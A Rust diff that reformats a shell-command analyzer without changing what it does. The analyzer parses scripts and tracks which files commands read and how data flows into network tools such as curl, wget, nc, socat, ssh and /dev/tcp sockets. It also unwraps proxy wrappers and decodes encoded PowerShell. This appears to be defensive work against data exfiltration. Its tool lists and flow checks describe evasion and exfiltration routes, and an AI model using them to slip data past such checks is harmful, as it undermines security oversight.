@@ -124,13 +124,8 @@ pub fn simple_commands(command: &str) -> Vec<Vec<String>> {
 /// is not loopback.
 pub fn is_loopback(host: &str) -> bool {
     let h = host.trim().trim_end_matches('.').to_ascii_lowercase();
-    let h = h
-        .strip_prefix('[')
-        .and_then(|x| x.strip_suffix(']'))
-        .unwrap_or(&h)
-        .to_string();
-    if h == "localhost" || h.ends_with(".localhost") || h == "ip6-localhost" || h == "ip6-loopback"
-    {
+    let h = h.strip_prefix('[').and_then(|x| x.strip_suffix(']')).unwrap_or(&h).to_string();
+    if h == "localhost" || h.ends_with(".localhost") || h == "ip6-localhost" || h == "ip6-loopback" {
         return true;
     }
     if let Ok(v4) = h.parse::<std::net::Ipv4Addr>() {
@@ -283,10 +278,8 @@ impl<'a> Lexer<'a> {
                     toks.push(Tok::Op(Op::Newline));
                 }
                 b'#' => {
-                    let end = self.s[self.pos..]
-                        .iter()
-                        .position(|&b| b == b'\n')
-                        .map_or(self.s.len(), |k| self.pos + k);
+                    let end =
+                        self.s[self.pos..].iter().position(|&b| b == b'\n').map_or(self.s.len(), |k| self.pos + k);
                     self.pos = end;
                 }
                 b';' => {
@@ -436,14 +429,7 @@ impl<'a> Lexer<'a> {
             Some(b'<' | b'>') if self.at(1) == Some(b'(') => Some(self.word(depth)),
             _ => None,
         };
-        Tok::Redir(Redir {
-            fd,
-            kind,
-            target,
-            strip,
-            body: String::new(),
-            body_subs: Vec::new(),
-        })
+        Tok::Redir(Redir { fd, kind, target, strip, body: String::new(), body_subs: Vec::new() })
     }
 
     fn read_heredocs(&mut self, toks: &mut [Tok], pending: &mut Vec<usize>, depth: usize) {
@@ -451,19 +437,12 @@ impl<'a> Lexer<'a> {
             let Some(Tok::Redir(r)) = toks.get_mut(idx) else {
                 continue;
             };
-            let delim: Vec<u8> = r
-                .target
-                .as_ref()
-                .map(|w| w.text.as_bytes().to_vec())
-                .unwrap_or_default();
+            let delim: Vec<u8> = r.target.as_ref().map(|w| w.text.as_bytes().to_vec()).unwrap_or_default();
             let quoted = r.target.as_ref().is_some_and(|w| w.quoted);
             let mut body: Vec<u8> = Vec::new();
             while self.pos < self.s.len() {
                 let start = self.pos;
-                let end = self.s[start..]
-                    .iter()
-                    .position(|&b| b == b'\n')
-                    .map_or(self.s.len(), |k| start + k);
+                let end = self.s[start..].iter().position(|&b| b == b'\n').map_or(self.s.len(), |k| start + k);
                 let mut line = &self.s[start..end];
                 self.pos = (end + 1).min(self.s.len());
                 if r.strip {
@@ -517,10 +496,8 @@ impl<'a> Lexer<'a> {
                 b'\'' => {
                     self.pos += 1;
                     w.quoted = true;
-                    let end = self.s[self.pos..]
-                        .iter()
-                        .position(|&b| b == b'\'')
-                        .map_or(self.s.len(), |k| self.pos + k);
+                    let end =
+                        self.s[self.pos..].iter().position(|&b| b == b'\'').map_or(self.s.len(), |k| self.pos + k);
                     w.lits(&self.s[self.pos..end]);
                     self.pos = (end + 1).min(self.s.len());
                 }
@@ -685,10 +662,7 @@ impl<'a> Lexer<'a> {
         }
         w.dynamic(&self.s[start..self.pos]);
         if depth < MAX_DEPTH {
-            let mut lx = Lexer {
-                s: &content,
-                pos: 0,
-            };
+            let mut lx = Lexer { s: &content, pos: 0 };
             let toks = lx.tokens(depth + 1, false);
             w.subs.push(parse_toks(toks, depth + 1));
         }
@@ -810,10 +784,7 @@ enum Closer {
 }
 
 fn parse_str(s: &str, depth: usize) -> Script {
-    let mut lx = Lexer {
-        s: s.as_bytes(),
-        pos: 0,
-    };
+    let mut lx = Lexer { s: s.as_bytes(), pos: 0 };
     let toks = lx.tokens(depth, false);
     parse_toks(toks, depth)
 }
@@ -911,19 +882,13 @@ impl Parser {
             }
             let inner = self.script(depth + 1, Closer::Paren);
             let redirs = self.trailing_redirs();
-            return Some(Command {
-                kind: Kind::Group(inner),
-                redirs,
-            });
+            return Some(Command { kind: Kind::Group(inner), redirs });
         }
         if self.is_word("{") && depth < MAX_DEPTH {
             self.i += 1;
             let inner = self.script(depth + 1, Closer::Brace);
             let redirs = self.trailing_redirs();
-            return Some(Command {
-                kind: Kind::Group(inner),
-                redirs,
-            });
+            return Some(Command { kind: Kind::Group(inner), redirs });
         }
         if closer == Closer::Brace && self.is_word("}") {
             return None;
@@ -962,10 +927,7 @@ impl Parser {
         if words.is_empty() && redirs.is_empty() {
             None
         } else {
-            Some(Command {
-                kind: Kind::Simple(words),
-                redirs,
-            })
+            Some(Command { kind: Kind::Simple(words), redirs })
         }
     }
 }
@@ -1003,11 +965,8 @@ fn collect_simple(sc: &Script, out: &mut Vec<Vec<String>>) {
                             collect_simple(s, out);
                         }
                     }
-                    let argv: Vec<String> = words
-                        .iter()
-                        .skip_while(|w| is_assign(&w.text))
-                        .map(|w| w.text.clone())
-                        .collect();
+                    let argv: Vec<String> =
+                        words.iter().skip_while(|w| is_assign(&w.text)).map(|w| w.text.clone()).collect();
                     if !argv.is_empty() {
                         out.push(argv);
                     }
@@ -1029,16 +988,10 @@ struct Arg {
 
 impl Arg {
     fn from_word(w: &Word) -> Arg {
-        Arg {
-            t: w.text.clone(),
-            h: w.host.clone(),
-        }
+        Arg { t: w.text.clone(), h: w.host.clone() }
     }
     fn lit(s: &str) -> Arg {
-        Arg {
-            t: s.to_string(),
-            h: s.to_string(),
-        }
+        Arg { t: s.to_string(), h: s.to_string() }
     }
     /// Suffix starting at byte offset `off` of the text (prefix assumed literal).
     fn slice(&self, off: usize) -> Arg {
@@ -1062,21 +1015,14 @@ impl Parsed {
         self.opts.iter().any(|(k, _)| keys.contains(&k.as_str()))
     }
     fn vals(&self, keys: &[&str]) -> Vec<Arg> {
-        self.opts
-            .iter()
-            .filter(|(k, _)| keys.contains(&k.as_str()))
-            .filter_map(|(_, v)| v.clone())
-            .collect()
+        self.opts.iter().filter(|(k, _)| keys.contains(&k.as_str())).filter_map(|(_, v)| v.clone()).collect()
     }
 }
 
 /// Generic getopt-like parser. `short`: short options taking an argument;
 /// `long`: long options (without `--`) taking an argument.
 fn parse_opts(args: &[Arg], short: &str, long: &[&str], stop_at_pos: bool) -> Parsed {
-    let mut p = Parsed {
-        pos: Vec::new(),
-        opts: Vec::new(),
-    };
+    let mut p = Parsed { pos: Vec::new(), opts: Vec::new() };
     let mut i = 0;
     let mut only_pos = false;
     while i < args.len() {
@@ -1096,8 +1042,7 @@ fn parse_opts(args: &[Arg], short: &str, long: &[&str], stop_at_pos: bool) -> Pa
         }
         if let Some(body) = t.strip_prefix("--") {
             if let Some(eq) = body.find('=') {
-                p.opts
-                    .push((format!("--{}", &body[..eq]), Some(a.slice(2 + eq + 1))));
+                p.opts.push((format!("--{}", &body[..eq]), Some(a.slice(2 + eq + 1))));
             } else if long.contains(&body) {
                 let v = args.get(i).cloned();
                 if v.is_some() {
@@ -1177,10 +1122,7 @@ fn clean_host(auth: &str) -> Option<String> {
         }
     };
     let h = h.trim_end_matches('.');
-    if h.is_empty()
-        || h.chars()
-            .any(|c| c.is_whitespace() || "\"'<>\\^`|{}()$;,/?#".contains(c))
-    {
+    if h.is_empty() || h.chars().any(|c| c.is_whitespace() || "\"'<>\\^`|{}()$;,/?#".contains(c)) {
         return None;
     }
     Some(h.to_ascii_lowercase())
@@ -1190,9 +1132,7 @@ fn clean_host(auth: &str) -> Option<String> {
 fn url_host(s: &str) -> Option<String> {
     let k = s.find("://")?;
     let rest = &s[k + 3..];
-    let end = rest
-        .find(|c: char| c == '/' || c == '?' || c == '#' || c.is_whitespace())
-        .unwrap_or(rest.len());
+    let end = rest.find(|c: char| c == '/' || c == '?' || c == '#' || c.is_whitespace()).unwrap_or(rest.len());
     clean_host(&rest[..end])
 }
 
@@ -1245,10 +1185,7 @@ fn dev_net(t: &str, h: &str) -> Option<(String, String)> {
     let src = if h.starts_with(proto) { h } else { t };
     let rest = &src[proto.len() + 1..];
     let host = rest.split('/').next().unwrap_or("");
-    Some((
-        proto.to_string(),
-        clean_host(host).unwrap_or_else(|| "*".into()),
-    ))
+    Some((proto.to_string(), clean_host(host).unwrap_or_else(|| "*".into())))
 }
 
 fn cmd_name(t: &str) -> String {
@@ -1258,8 +1195,7 @@ fn cmd_name(t: &str) -> String {
         b = x.to_string();
     }
     let ver = |s: &str, pre: &str| -> bool {
-        s.strip_prefix(pre)
-            .is_some_and(|r| r.bytes().all(|c| c.is_ascii_digit() || c == b'.'))
+        s.strip_prefix(pre).is_some_and(|r| r.bytes().all(|c| c.is_ascii_digit() || c == b'.'))
     };
     if ver(&b, "python") || ver(&b, "pypy") {
         return "python".into();
@@ -1310,9 +1246,9 @@ fn dedup_cap(v: Vec<String>) -> Vec<String> {
 }
 
 const RR_TYPES: &[&str] = &[
-    "A", "AAAA", "MX", "TXT", "NS", "CNAME", "SOA", "PTR", "SRV", "CAA", "ANY", "AXFR", "IXFR",
-    "DS", "DNSKEY", "RRSIG", "NSEC", "NSEC3", "TLSA", "SSHFP", "HINFO", "NAPTR", "SPF", "CERT",
-    "LOC", "URI", "HTTPS", "SVCB", "DNAME", "NULL", "IN", "CH", "HS", "CHAOS",
+    "A", "AAAA", "MX", "TXT", "NS", "CNAME", "SOA", "PTR", "SRV", "CAA", "ANY", "AXFR", "IXFR", "DS", "DNSKEY",
+    "RRSIG", "NSEC", "NSEC3", "TLSA", "SSHFP", "HINFO", "NAPTR", "SPF", "CERT", "LOC", "URI", "HTTPS", "SVCB", "DNAME",
+    "NULL", "IN", "CH", "HS", "CHAOS",
 ];
 
 // ─────────────────────── one-liner code scanning ───────────────────────
@@ -1493,9 +1429,8 @@ fn code_hosts(code: &str) -> Vec<String> {
         }
         if s < idx {
             let rest = &code[idx + 3..];
-            let end = rest
-                .find(|c: char| !(c.is_ascii_alphanumeric() || ".-_:[]@%*".contains(c)))
-                .unwrap_or(rest.len());
+            let end =
+                rest.find(|c: char| !(c.is_ascii_alphanumeric() || ".-_:[]@%*".contains(c))).unwrap_or(rest.len());
             if let Some(h) = clean_host(&rest[..end]) {
                 push_cap(&mut hosts, h);
             }
@@ -1508,10 +1443,7 @@ fn code_hosts(code: &str) -> Vec<String> {
             let idx = from + k + kw.len();
             if let Some(l) = literals(&code[idx..], 120, false).into_iter().next() {
                 let l = l.trim();
-                if !l.is_empty()
-                    && !l.contains('/')
-                    && (l.contains('.') || l.contains(':') || l == "localhost")
-                {
+                if !l.is_empty() && !l.contains('/') && (l.contains('.') || l.contains(':') || l == "localhost") {
                     if let Some(h) = clean_host(l) {
                         push_cap(&mut hosts, h);
                     }
@@ -1532,20 +1464,13 @@ fn code_reads(code: &str) -> Vec<String> {
             let start = from + k;
             let idx = start + kw.len();
             from = idx;
-            if *kw == "open("
-                && start > 0
-                && (b[start - 1].is_ascii_alphanumeric() || b[start - 1] == b'_')
-            {
+            if *kw == "open(" && start > 0 && (b[start - 1].is_ascii_alphanumeric() || b[start - 1] == b'_') {
                 continue;
             }
             for l in literals(&code[idx..], 200, true) {
                 let l = l.trim();
                 let is_mode = !l.is_empty() && l.chars().all(|c| "rwabxt+<>U".contains(c));
-                if l.is_empty()
-                    || is_mode
-                    || l.eq_ignore_ascii_case("utf-8")
-                    || l.eq_ignore_ascii_case("utf8")
-                {
+                if l.is_empty() || is_mode || l.eq_ignore_ascii_case("utf-8") || l.eq_ignore_ascii_case("utf8") {
                     continue;
                 }
                 if l.starts_with('>') || l.starts_with('|') || l.contains("://") {
@@ -1588,10 +1513,7 @@ fn b64_decode(s: &str) -> Vec<u8> {
 
 fn decode_ps_encoded(s: &str) -> String {
     let bytes = b64_decode(s);
-    let u16s: Vec<u16> = bytes
-        .chunks(2)
-        .map(|c| u16::from_le_bytes([c[0], *c.get(1).unwrap_or(&0)]))
-        .collect();
+    let u16s: Vec<u16> = bytes.chunks(2).map(|c| u16::from_le_bytes([c[0], *c.get(1).unwrap_or(&0)])).collect();
     String::from_utf16_lossy(&u16s)
 }
 
@@ -1606,11 +1528,7 @@ struct An {
 
 impl Default for An {
     fn default() -> Self {
-        An {
-            f: ShellFacts::default(),
-            sdepth: 0,
-            budget: 64 * CAP,
-        }
+        An { f: ShellFacts::default(), sdepth: 0, budget: 64 * CAP }
     }
 }
 
@@ -1750,17 +1668,11 @@ impl An {
     fn finish_dev_net(&mut self, cx: &mut Cx, before: usize) {
         let devs = std::mem::take(&mut cx.dev_net);
         for (proto, host, out) in devs {
-            let mut nu = NetUse {
-                tool: proto,
-                hosts: vec![host],
-                reads_stdin: out,
-                ..Default::default()
-            };
+            let mut nu = NetUse { tool: proto, hosts: vec![host], reads_stdin: out, ..Default::default() };
             if out {
                 let lim = CAP.min(self.budget);
                 let own = &self.f.read_paths[before.min(self.f.read_paths.len())..];
-                nu.stdin_from =
-                    collect_limited(cx.input.unwrap_or(&[]).iter().chain(own.iter()), lim);
+                nu.stdin_from = collect_limited(cx.input.unwrap_or(&[]).iter().chain(own.iter()), lim);
                 self.budget -= nu.stdin_from.len();
             }
             self.f.net.push(nu);
@@ -1816,15 +1728,7 @@ impl An {
     fn read(&mut self, t: &str, h: &str, cx: &mut Cx) -> bool {
         if t.is_empty()
             || t == "-"
-            || matches!(
-                t,
-                "/dev/stdin"
-                    | "/dev/null"
-                    | "/dev/zero"
-                    | "/dev/random"
-                    | "/dev/urandom"
-                    | "/dev/tty"
-            )
+            || matches!(t, "/dev/stdin" | "/dev/null" | "/dev/zero" | "/dev/random" | "/dev/urandom" | "/dev/tty")
             || t.starts_with("/dev/fd/")
         {
             return false;
@@ -1870,12 +1774,7 @@ impl An {
         let lim = CAP.min(self.budget);
         let own = std::mem::take(&mut nu.stdin_from);
         nu.stdin_from = collect_limited(
-            cx.input
-                .unwrap_or(&[])
-                .iter()
-                .chain(cx.sub_reads.iter())
-                .chain(cx.stdin_files.iter())
-                .chain(own.iter()),
+            cx.input.unwrap_or(&[]).iter().chain(cx.sub_reads.iter()).chain(cx.stdin_files.iter()).chain(own.iter()),
             lim,
         );
         self.budget -= nu.stdin_from.len();
@@ -1931,10 +1830,7 @@ impl An {
                     while let Some(a) = args.get(i) {
                         let t = a.t.as_str();
                         let split = if t == "-S" || t == "--split-string" {
-                            Some((
-                                args.get(i + 1).map(|x| x.t.clone()).unwrap_or_default(),
-                                i + 2,
-                            ))
+                            Some((args.get(i + 1).map(|x| x.t.clone()).unwrap_or_default(), i + 2))
                         } else if let Some(r) = t.strip_prefix("--split-string=") {
                             Some((r.to_string(), i + 1))
                         } else {
@@ -1967,11 +1863,10 @@ impl An {
                         }
                     }
                 }
-                "then" | "do" | "else" | "elif" | "if" | "while" | "until" | "!" | "{" | "}"
-                | "fi" | "done" | "esac" => i += 1,
-                "nohup" | "time" | "builtin" | "chronic" | "unbuffer" | "torsocks" | "tsocks"
-                | "proxychains" | "proxychains4" | "caffeinate" | "busybox" | "noglob"
-                | "nocorrect" | "setsid" | "catchsegv" => {
+                "then" | "do" | "else" | "elif" | "if" | "while" | "until" | "!" | "{" | "}" | "fi" | "done"
+                | "esac" => i += 1,
+                "nohup" | "time" | "builtin" | "chronic" | "unbuffer" | "torsocks" | "tsocks" | "proxychains"
+                | "proxychains4" | "caffeinate" | "busybox" | "noglob" | "nocorrect" | "setsid" | "catchsegv" => {
                     i += 1;
                     while matches!(args.get(i), Some(a) if a.t.starts_with('-') && a.t.len() > 1) {
                         i += 1;
@@ -1996,14 +1891,7 @@ impl An {
                 "timeout" => i = skip_opts(args, i + 1, "sk", &["signal", "kill-after"]) + 1,
                 "stdbuf" => i = skip_opts(args, i + 1, "ioe", &["input", "output", "error"]),
                 "taskset" => i = skip_opts(args, i + 1, "", &[]) + 1,
-                "flock" => {
-                    i = skip_opts(
-                        args,
-                        i + 1,
-                        "wEc",
-                        &["timeout", "conflict-exit-code", "command"],
-                    ) + 1
-                }
+                "flock" => i = skip_opts(args, i + 1, "wEc", &["timeout", "conflict-exit-code", "command"]) + 1,
                 "watch" => {
                     let j = skip_opts(args, i + 1, "nd", &["interval", "differences"]);
                     let rest = args.get(j..).unwrap_or(&[]);
@@ -2079,11 +1967,7 @@ impl An {
                     return;
                 }
                 "eval" => {
-                    let s = args[i + 1..]
-                        .iter()
-                        .map(|a| a.t.as_str())
-                        .collect::<Vec<_>>()
-                        .join(" ");
+                    let s = args[i + 1..].iter().map(|a| a.t.as_str()).collect::<Vec<_>>().join(" ");
                     let inh = cx.inherited();
                     self.sub_string(&s, inh.as_deref(), cx.depth);
                     return;
@@ -2150,10 +2034,7 @@ impl An {
             "socat" => self.socat(args, cx),
             "telnet" => {
                 let p = parse_opts(args, "lenbXkS", &[], false);
-                let mut nu = NetUse {
-                    tool: "telnet".into(),
-                    ..Default::default()
-                };
+                let mut nu = NetUse { tool: "telnet".into(), ..Default::default() };
                 if let Some(h) = p.pos.first().and_then(|a| clean_host(&a.h)) {
                     nu.hosts.push(h);
                 }
@@ -2167,12 +2048,7 @@ impl An {
             }
             "rsync" => {
                 let p = parse_opts(args, "efBMT", RSYNC_LONG, false);
-                for v in p.vals(&[
-                    "--files-from",
-                    "--exclude-from",
-                    "--include-from",
-                    "--password-file",
-                ]) {
+                for v in p.vals(&["--files-from", "--exclude-from", "--include-from", "--password-file"]) {
                     self.read_a(&v, cx);
                 }
                 self.copy_tool("rsync", &p.pos, &[], cx);
@@ -2194,17 +2070,12 @@ impl An {
                     ],
                     false,
                 );
-                if p.pos.first().is_some_and(|a| {
-                    matches!(
-                        a.t.as_str(),
-                        "copy" | "sync" | "move" | "copyto" | "moveto" | "bisync"
-                    )
-                }) {
+                if p.pos
+                    .first()
+                    .is_some_and(|a| matches!(a.t.as_str(), "copy" | "sync" | "move" | "copyto" | "moveto" | "bisync"))
+                {
                     let pos = &p.pos[1..];
-                    let mut nu = NetUse {
-                        tool: "rclone".into(),
-                        ..Default::default()
-                    };
+                    let mut nu = NetUse { tool: "rclone".into(), ..Default::default() };
                     if let Some((dst, srcs)) = pos.split_last() {
                         if remote_host(&dst.t).is_some() {
                             for s in srcs {
@@ -2221,10 +2092,7 @@ impl An {
             "dig" | "drill" | "delv" | "kdig" => self.dig(name, args, cx),
             "nslookup" => {
                 let pos: Vec<&Arg> = args.iter().filter(|a| !a.t.starts_with('-')).collect();
-                let mut nu = NetUse {
-                    tool: "nslookup".into(),
-                    ..Default::default()
-                };
+                let mut nu = NetUse { tool: "nslookup".into(), ..Default::default() };
                 for a in pos.iter().take(2) {
                     if let Some(h) = clean_host(&a.h) {
                         nu.hosts.push(h);
@@ -2234,10 +2102,7 @@ impl An {
             }
             "host" => {
                 let p = parse_opts(args, "ctWmNR", &[], false);
-                let mut nu = NetUse {
-                    tool: "host".into(),
-                    ..Default::default()
-                };
+                let mut nu = NetUse { tool: "host".into(), ..Default::default() };
                 for a in p.pos.iter().take(2) {
                     if let Some(h) = clean_host(&a.h) {
                         nu.hosts.push(h);
@@ -2245,8 +2110,7 @@ impl An {
                 }
                 self.push_net(cx, nu, false);
             }
-            "ping" | "ping6" | "traceroute" | "traceroute6" | "tracepath" | "mtr" | "whois"
-            | "nmap" | "arping" => {
+            "ping" | "ping6" | "traceroute" | "traceroute6" | "tracepath" | "mtr" | "whois" | "nmap" | "arping" => {
                 let short = match name {
                     "whois" => "hp",
                     "nmap" => "psoiDeg",
@@ -2254,10 +2118,7 @@ impl An {
                     _ => "cisStwWIpQMlFm",
                 };
                 let p = parse_opts(args, short, &[], false);
-                let mut nu = NetUse {
-                    tool: name.to_string(),
-                    ..Default::default()
-                };
+                let mut nu = NetUse { tool: name.to_string(), ..Default::default() };
                 for v in p.vals(&["-h"]) {
                     if name == "whois" {
                         if let Some(h) = clean_host(&v.h) {
@@ -2276,14 +2137,10 @@ impl An {
             }
             "git" => self.git(args, cx),
             "gh" => self.gh(args, cx),
-            "npm" | "pnpm" | "yarn" | "cargo" | "pip" | "twine" | "gem" | "poetry" | "uv" => {
-                self.pkg(name, args, cx)
-            }
+            "npm" | "pnpm" | "yarn" | "cargo" | "pip" | "twine" | "gem" | "poetry" | "uv" => self.pkg(name, args, cx),
             "bun" if args.first().is_some_and(|a| a.t == "publish") => self.pkg(name, args, cx),
             "aws" | "gsutil" | "gcloud" | "az" => self.cloud(name, args, cx),
-            "python" | "node" | "deno" | "bun" | "ruby" | "perl" | "php" | "powershell" => {
-                self.interp(name, args, cx)
-            }
+            "python" | "node" | "deno" | "bun" | "ruby" | "perl" | "php" | "powershell" => self.interp(name, args, cx),
             "http" => self.httpie(args, cx),
             "openssl" => self.openssl(args, cx),
             "gpg" => self.gpg(args, cx),
@@ -2293,10 +2150,7 @@ impl An {
 
     fn curl(&mut self, args: &[Arg], cx: &mut Cx) {
         let p = parse_opts(args, "dFTHXoKxuAebcwmrECDyYztUQP", CURL_LONG, false);
-        let mut nu = NetUse {
-            tool: "curl".into(),
-            ..Default::default()
-        };
+        let mut nu = NetUse { tool: "curl".into(), ..Default::default() };
         for (k, v) in &p.opts {
             let Some(v) = v else { continue };
             let t = v.t.as_str();
@@ -2332,11 +2186,7 @@ impl An {
                 "-H" | "--header" | "--proxy-header" | "--variable" | "--url-query" => {
                     if let Some(at) = t.find('@') {
                         let r = &t[at + 1..];
-                        if k.as_str() != "-H"
-                            && k.as_str() != "--header"
-                            && k.as_str() != "--proxy-header"
-                            || at == 0
-                        {
+                        if k.as_str() != "-H" && k.as_str() != "--header" && k.as_str() != "--proxy-header" || at == 0 {
                             up(&mut nu, r);
                         }
                     }
@@ -2348,14 +2198,14 @@ impl An {
                         self.read_a(v, cx);
                     }
                 }
-                "-x" | "--proxy" | "--preproxy" | "--socks4" | "--socks4a" | "--socks5"
-                | "--socks5-hostname" | "--url" => {
+                "-x" | "--proxy" | "--preproxy" | "--socks4" | "--socks4a" | "--socks5" | "--socks5-hostname"
+                | "--url" => {
                     if let Some(h) = loose_host(&v.h) {
                         nu.hosts.push(h);
                     }
                 }
-                "-o" | "--output" | "-D" | "--dump-header" | "-c" | "--cookie-jar" | "--trace"
-                | "--trace-ascii" | "--stderr" | "--libcurl" | "--etag-save" => self.write_a(v, cx),
+                "-o" | "--output" | "-D" | "--dump-header" | "-c" | "--cookie-jar" | "--trace" | "--trace-ascii"
+                | "--stderr" | "--libcurl" | "--etag-save" => self.write_a(v, cx),
                 "-b" | "--cookie" if !t.contains('=') => {
                     self.read_a(v, cx);
                 }
@@ -2372,10 +2222,7 @@ impl An {
 
     fn wget(&mut self, args: &[Arg], cx: &mut Cx) {
         let p = parse_opts(args, "OoaiPUetTwQlARDIXB", WGET_LONG, false);
-        let mut nu = NetUse {
-            tool: "wget".into(),
-            ..Default::default()
-        };
+        let mut nu = NetUse { tool: "wget".into(), ..Default::default() };
         for (k, v) in &p.opts {
             let Some(v) = v else { continue };
             match k.as_str() {
@@ -2387,9 +2234,7 @@ impl An {
                         self.read_a(v, cx);
                     }
                 }
-                "-O" | "--output-document" | "-o" | "--output-file" | "-a" | "--append-output" => {
-                    self.write_a(v, cx)
-                }
+                "-O" | "--output-document" | "-o" | "--output-file" | "-a" | "--append-output" => self.write_a(v, cx),
                 "-e" | "--execute" => {
                     if let Some(h) = url_host(&v.h) {
                         nu.hosts.push(h);
@@ -2439,10 +2284,7 @@ impl An {
             ],
             false,
         );
-        let mut nu = NetUse {
-            tool: name.to_string(),
-            ..Default::default()
-        };
+        let mut nu = NetUse { tool: name.to_string(), ..Default::default() };
         let listen = p.has(&["-l", "--listen"]);
         let mut proxies = p.vals(&["--proxy"]);
         if name == "nc" {
@@ -2454,8 +2296,7 @@ impl An {
             }
         }
         if let Some(a) = p.pos.first() {
-            if !(is_digits(&a.t) || listen && a.t.bytes().all(|b| b.is_ascii_digit() || b == b'-'))
-            {
+            if !(is_digits(&a.t) || listen && a.t.bytes().all(|b| b.is_ascii_digit() || b == b'-')) {
                 if let Some(h) = clean_host(&a.h) {
                     nu.hosts.push(h);
                 }
@@ -2465,23 +2306,13 @@ impl An {
     }
 
     fn socat(&mut self, args: &[Arg], cx: &mut Cx) {
-        let mut nu = NetUse {
-            tool: "socat".into(),
-            ..Default::default()
-        };
+        let mut nu = NetUse { tool: "socat".into(), ..Default::default() };
         let mut i = 0;
         let mut addrs = Vec::new();
         while i < args.len() {
             let t = args[i].t.as_str();
             if t.starts_with('-') && t.len() > 1 {
-                i += if matches!(
-                    t,
-                    "-b" | "-t" | "-T" | "-lf" | "-lp" | "-L" | "-W" | "-r" | "-R"
-                ) {
-                    2
-                } else {
-                    1
-                };
+                i += if matches!(t, "-b" | "-t" | "-T" | "-lf" | "-lp" | "-L" | "-W" | "-r" | "-R") { 2 } else { 1 };
                 continue;
             }
             addrs.push(args[i].clone());
@@ -2493,12 +2324,7 @@ impl An {
             let rest_h = a.h.split_once(':').map(|x| x.1).unwrap_or("");
             let rest_t = a.t.split_once(':').map(|x| x.1).unwrap_or("");
             let part = |s: &str, n: usize| -> Option<String> {
-                s.split(',')
-                    .next()
-                    .unwrap_or("")
-                    .split(':')
-                    .nth(n)
-                    .and_then(clean_host)
+                s.split(',').next().unwrap_or("").split(':').nth(n).and_then(clean_host)
             };
             match ty.as_str() {
                 "-" | "STDIO" | "STDIN" | "STDOUT" => nu.reads_stdin = true,
@@ -2512,14 +2338,9 @@ impl An {
                     && !t.contains("RECV") =>
                 {
                     if rest_h.starts_with('[') {
-                        if let Some(h) = clean_host(
-                            rest_h
-                                .split(']')
-                                .next()
-                                .map(|x| format!("{}]", x))
-                                .as_deref()
-                                .unwrap_or(""),
-                        ) {
+                        if let Some(h) =
+                            clean_host(rest_h.split(']').next().map(|x| format!("{}]", x)).as_deref().unwrap_or(""))
+                        {
                             nu.hosts.push(h);
                         }
                     } else if let Some(h) = part(rest_h, 0) {
@@ -2554,27 +2375,16 @@ impl An {
 
     fn ssh(&mut self, args: &[Arg], cx: &mut Cx) {
         let p = parse_opts(args, "bcDEeFIiJLlmOoPpQRSWwB", &[], true);
-        let mut nu = NetUse {
-            tool: "ssh".into(),
-            ..Default::default()
-        };
+        let mut nu = NetUse { tool: "ssh".into(), ..Default::default() };
         if let Some(a) = p.pos.first() {
-            let h = if a.h.contains("://") {
-                url_host(&a.h)
-            } else {
-                clean_host(&a.h)
-            };
+            let h = if a.h.contains("://") { url_host(&a.h) } else { clean_host(&a.h) };
             if let Some(h) = h {
                 nu.hosts.push(h);
             }
         }
         for v in p.vals(&["-J"]) {
             for j in v.h.split(',') {
-                if let Some(h) = if j.contains("://") {
-                    url_host(j)
-                } else {
-                    clean_host(j)
-                } {
+                if let Some(h) = if j.contains("://") { url_host(j) } else { clean_host(j) } {
                     nu.hosts.push(h);
                 }
             }
@@ -2588,10 +2398,7 @@ impl An {
     }
 
     fn copy_tool(&mut self, tool: &str, pos: &[Arg], jumps: &[Arg], cx: &mut Cx) {
-        let mut nu = NetUse {
-            tool: tool.into(),
-            ..Default::default()
-        };
+        let mut nu = NetUse { tool: tool.into(), ..Default::default() };
         for j in jumps {
             for x in j.h.split(',') {
                 if let Some(h) = clean_host(x) {
@@ -2619,20 +2426,8 @@ impl An {
     }
 
     fn ftp(&mut self, name: &str, args: &[Arg], cx: &mut Cx) {
-        let p = parse_opts(
-            args,
-            if name == "sftp" {
-                "BbcDFiJlOoPRSs"
-            } else {
-                "PpuecoT"
-            },
-            &[],
-            false,
-        );
-        let mut nu = NetUse {
-            tool: name.to_string(),
-            ..Default::default()
-        };
+        let p = parse_opts(args, if name == "sftp" { "BbcDFiJlOoPRSs" } else { "PpuecoT" }, &[], false);
+        let mut nu = NetUse { tool: name.to_string(), ..Default::default() };
         if name == "sftp" {
             for v in p.vals(&["-b"]) {
                 if v.t == "-" {
@@ -2643,11 +2438,7 @@ impl An {
             }
         }
         if let Some(a) = p.pos.first() {
-            let h = if a.h.contains("://") {
-                url_host(&a.h)
-            } else {
-                remote_host(&a.h).or_else(|| clean_host(&a.h))
-            };
+            let h = if a.h.contains("://") { url_host(&a.h) } else { remote_host(&a.h).or_else(|| clean_host(&a.h)) };
             if let Some(h) = h {
                 nu.hosts.push(h);
             }
@@ -2662,11 +2453,7 @@ impl An {
                 let mut it = line.split_whitespace();
                 if let Some(cmd) = it.next() {
                     if matches!(cmd, "put" | "mput" | "reput" | "append") {
-                        for f in it.filter(|x| !x.starts_with('-')).take(if cmd == "mput" {
-                            usize::MAX
-                        } else {
-                            1
-                        }) {
+                        for f in it.filter(|x| !x.starts_with('-')).take(if cmd == "mput" { usize::MAX } else { 1 }) {
                             up(&mut nu, f);
                         }
                     }
@@ -2677,10 +2464,7 @@ impl An {
     }
 
     fn dig(&mut self, name: &str, args: &[Arg], cx: &mut Cx) {
-        let mut nu = NetUse {
-            tool: name.to_string(),
-            ..Default::default()
-        };
+        let mut nu = NetUse { tool: name.to_string(), ..Default::default() };
         let mut i = 0;
         while i < args.len() {
             let a = &args[i];
@@ -2734,12 +2518,7 @@ impl An {
             let t = a.t.as_str();
             if matches!(
                 t,
-                "-C" | "-c"
-                    | "--git-dir"
-                    | "--work-tree"
-                    | "--namespace"
-                    | "--super-prefix"
-                    | "--config-env"
+                "-C" | "-c" | "--git-dir" | "--work-tree" | "--namespace" | "--super-prefix" | "--config-env"
             ) {
                 i += 2;
                 continue;
@@ -2755,16 +2534,8 @@ impl An {
         match sub.t.as_str() {
             "push" => {
                 self.f.git_push = true;
-                let p = parse_opts(
-                    rest,
-                    "o",
-                    &["repo", "receive-pack", "exec", "push-option"],
-                    false,
-                );
-                let mut nu = NetUse {
-                    tool: "git".into(),
-                    ..Default::default()
-                };
+                let p = parse_opts(rest, "o", &["repo", "receive-pack", "exec", "push-option"], false);
+                let mut nu = NetUse { tool: "git".into(), ..Default::default() };
                 let mut cands = p.vals(&["--repo"]);
                 cands.extend(p.pos.first().cloned());
                 for c in cands {
@@ -2778,9 +2549,7 @@ impl An {
